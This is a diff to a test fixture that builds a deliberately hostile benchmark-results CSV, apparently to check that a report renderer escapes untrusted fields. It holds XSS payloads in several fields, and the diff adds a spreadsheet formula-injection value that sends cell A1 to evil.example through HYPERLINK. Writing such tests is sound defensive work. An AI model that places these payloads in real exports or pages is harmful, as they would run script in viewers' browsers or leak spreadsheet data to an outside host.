@@ -18,6 +18,8 @@ HOSTILE_INFO = 'NoResultError: </script><script>window.__xss=3</script><!-- <svg
 HOSTILE_FRAMEWORK = '<b onmouseover="window.__xss=5">evil</b>'
 HOSTILE_PARAMS = '{"x": "</script><script>window.__xss=6</script>"}'
 HOSTILE_META = '<img src=x onerror="window.__xss=7">'
+#: a message that a spreadsheet opening the CSV download would run as a formula
+HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
 CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
 AMLB_HEADER = ["id", "task", "framework", "constraint", "fold", "type", "result", "metric", "mode", "version", "params",
@@ -50,7 +52,7 @@ def write_hostile_amlb_csv(path: Path) -> Path:
                     "fold": fold, "type": "binary", "result": "" if failed else f"{auc:.4f}", "metric": "auc",
                     "mode": "aws.docker", "version": "1.0", "params": HOSTILE_PARAMS if fw == HOSTILE_FRAMEWORK else "",
                     "app_version": "2.0.2", "utc": "2021-11-17T23:48:01", "duration": 100, "training_duration": 90,
-                    "predict_duration": 1.5, "models_count": 3, "seed": 1, "info": HOSTILE_INFO if failed else "",
+                    "predict_duration": 1.5, "models_count": 3, "seed": 1, "info": "" if not failed else HOSTILE_FORMULA if fw == HOSTILE_FRAMEWORK else HOSTILE_INFO,
                     "acc": "" if failed else f"{auc - 0.05:.4f}", "balacc": "", "logloss": "", "auc": "" if failed else f"{auc:.4f}",
                 })
     path.parent.mkdir(parents=True, exist_ok=True)
